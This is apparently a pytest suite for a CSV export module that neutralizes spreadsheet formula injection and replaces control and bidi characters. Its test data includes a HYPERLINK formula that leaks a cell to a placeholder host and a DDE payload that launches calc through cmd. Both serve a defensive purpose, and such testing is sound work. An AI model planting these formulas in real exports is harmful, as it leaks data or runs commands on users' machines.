"""Tests of the formula-safe CSV export."""

from __future__ import annotations

import csv
import io

import pandas as pd
import pytest

from logparse.csvsafe import (
    csv_cell,
    dump_strict_json,
    neutralize_formula,
    replace_control_characters,
    write_csv,
)

HYPERLINK = '=HYPERLINK("http://example.invalid/?leak="&A1, "details")'


@pytest.mark.parametrize(
    "value",
    [
        "=1+1",
        HYPERLINK,
        "+41 22 000 00 00",
        "-2+3",
        "@SUM(A1:A3)",
        "\t=1+1",
        "\r=1+1",
        "-1",
    ],
)
def test_neutralize_formula_prefixes_apostrophe(value: str) -> None:
    assert neutralize_formula(value) == "'" + value


@pytest.mark.parametrize(
    "value",
    [
        "Error allocating a new image.",
        "",
        "1-2",
        " =1+1",
        "'=already quoted",
        -1,
        -2.5,
        0,
        None,
        True,
    ],
)
def test_neutralize_formula_keeps_safe_values(value: object) -> None:
    assert neutralize_formula(value) == value


def _read(text: str) -> list[dict[str, str]]:
    return list(csv.DictReader(io.StringIO(text)))


def _frame() -> pd.DataFrame:
    return pd.DataFrame(
        {
            "message": pd.Series([HYPERLINK, "plain"], dtype=object),
            "creator": pd.Series(["@admin", "ops1"], dtype="category"),
            "text": pd.Series(["-1", "ok"], dtype="string"),
            "object_id": pd.Series([-1, pd.NA], dtype="Int64"),
            "ratio": [-0.5, 1.25],
            "when": pd.to_datetime(["2014-09-18 01:54:27", None]),
            "required_states": pd.Series([("RUNNING", "POWEROFF"), ()], dtype=object),
        }
    )


def test_write_csv_neutralizes_text_cells() -> None:
    buffer = io.StringIO()
    write_csv(_frame(), buffer)
    rows = _read(buffer.getvalue())

    assert rows[0]["message"] == "'" + HYPERLINK
    assert rows[0]["creator"] == "'@admin"
    assert rows[0]["text"] == "'-1"
    assert rows[1]["message"] == "plain"


def test_write_csv_keeps_numbers_and_dates() -> None:
    buffer = io.StringIO()
    write_csv(_frame(), buffer)
    rows = _read(buffer.getvalue())

    assert rows[0]["object_id"] == "-1"
    assert rows[1]["object_id"] == ""
    assert rows[0]["ratio"] == "-0.5"
    assert rows[0]["when"] == "2014-09-18 01:54:27"
    assert rows[1]["when"] == ""


def test_write_csv_writes_tuples_as_json() -> None:
    buffer = io.StringIO()
    write_csv(_frame(), buffer)
    rows = _read(buffer.getvalue())

    assert rows[0]["required_states"] == '["RUNNING", "POWEROFF"]'
    assert rows[1]["required_states"] == "[]"


def test_write_csv_leaves_frame_unchanged() -> None:
    frame = _frame()
    write_csv(frame, io.StringIO())

    assert frame.loc[0, "message"] == HYPERLINK


def test_write_csv_accepts_rows() -> None:
    rows = [{"cause": "unknown", "example": "=cmd|' /C calc'!A0", "count": -3}]
    buffer = io.StringIO()
    write_csv(rows, buffer)
    written = _read(buffer.getvalue())

    assert written[0]["example"] == "'=cmd|' /C calc'!A0"
    assert written[0]["count"] == "-3"


def test_write_csv_orders_columns() -> None:
    rows = [{"b": 1, "a": "x"}]
    buffer = io.StringIO()
    write_csv(rows, buffer, columns=["a", "b"])

    assert buffer.getvalue().splitlines()[0] == "a,b"


def test_write_csv_path_with_bom(tmp_path) -> None:
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"用户": ["运维一组"]}), path, encoding="utf-8-sig")
    data = path.read_bytes()

    assert data.startswith(b"\xef\xbb\xbf")
    assert data.decode("utf-8-sig") == "用户\n运维一组\n"


def test_write_csv_path_without_bom(tmp_path) -> None:
    path = tmp_path / "out.csv"
    write_csv(pd.DataFrame({"cause": ["name_collision"]}), path)

    assert path.read_bytes() == b"cause\nname_collision\n"


@pytest.mark.parametrize(
    "value, expected",
    [
        ("disk\x00name", "disk\u2400name"),
        ("\x1b[31mred", "\u241b[31mred"),
        ("\x01\x08\x0b\x0c\x0e\x1f", "\u2401\u2408\u240b\u240c\u240e\u241f"),
        ("del\x7f", "del\u2421"),
        ("csi\x9b31m nel\x85", "csi\ufffd31m nel\ufffd"),
        ("half \ud800 pair \U0001f600", "half \ufffd pair \U0001f600"),
        ("tab\tlf\ncr\r", "tab\tlf\ncr\r"),
        ("Müller 张三 \u2400", "Müller 张三 \u2400"),
    ],
)
def test_replace_control_characters(value: str, expected: str) -> None:
    assert replace_control_characters(value) == expected


def test_control_pictures_recoverable() -> None:
    controls = [chr(code) for code in [*range(0x20), 0x7F] if chr(code) not in "\t\n\r"]
    pictures = [replace_control_characters(char) for char in controls]

    assert len(set(pictures)) == len(controls)
    assert all(len(picture) == 1 and picture != "\ufffd" for picture in pictures)


def test_write_csv_replaces_control_characters() -> None:
    frame = pd.DataFrame(
        {
            "message": pd.Series(["bad\x00name\x1b[31m", "\x00=1+1"], dtype=object),
            "creator": pd.Series(["ops\x00one", "ops1"], dtype="category"),
            "lines": pd.Series(["a\nb\tc", "ok"], dtype="string"),
        }
    )
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = _read(buffer.getvalue())

    assert "\x00" not in buffer.getvalue()
    assert "\x1b" not in buffer.getvalue()
    assert rows[0]["message"] == "bad\u2400name\u241b[31m"
    assert rows[1]["message"] == "\u2400=1+1"
    assert rows[0]["creator"] == "ops\u2400one"
    assert rows[0]["lines"] == "a\nb\tc"


def test_write_csv_json_cells_strict() -> None:
    frame = pd.DataFrame({"details": pd.Series([{"limit": float("inf")}, {}], dtype=object)})
    buffer = io.StringIO()
    write_csv(frame, buffer)
    rows = _read(buffer.getvalue())

    assert rows[0]["details"] == '{"limit": null}'
    assert rows[1]["details"] == "{}"


@pytest.mark.parametrize(
    "value, expected",
    [
        (float("nan"), "null"),
        (float("inf"), "null"),
        ({"a": [float("-inf"), 1.5], "b": ("x", 2)}, '{"a": [null, 1.5], "b": ["x", 2]}'),
        ("张三\x00", '"张三\\u0000"'),
        ("del\x7f csi\x9b nel\x85 ls\u2028", '"del\\u007f csi\\u009b nel\\u0085 ls\\u2028"'),
        ("half \udc00 pair", '"half \\udc00 pair"'),
    ],
)
def test_dump_strict_json(value: object, expected: str) -> None:
    assert dump_strict_json(value) == expected


def test_csv_cell_text() -> None:
    assert csv_cell("=1+1") == "'=1+1"
    assert csv_cell("disk\x00name") == "disk\u2400name"
    assert csv_cell("plain") == "plain"


def test_csv_cell_nested_values_as_json() -> None:
    assert csv_cell({"b": 1, "a": "=x"}) == '{"a": "=x", "b": 1}'
    assert csv_cell(("RUNNING", "POWEROFF")) == '["RUNNING", "POWEROFF"]'


def test_csv_cell_keeps_numbers() -> None:
    assert csv_cell(-1) == -1
    assert csv_cell(None) is None


@pytest.mark.parametrize("character", ["\u202a", "\u202e", "\u2066", "\u2069"])
def test_bidi_controls_replaced(character):
    assert replace_control_characters(f"abc{character}def") == "abc\ufffddef"
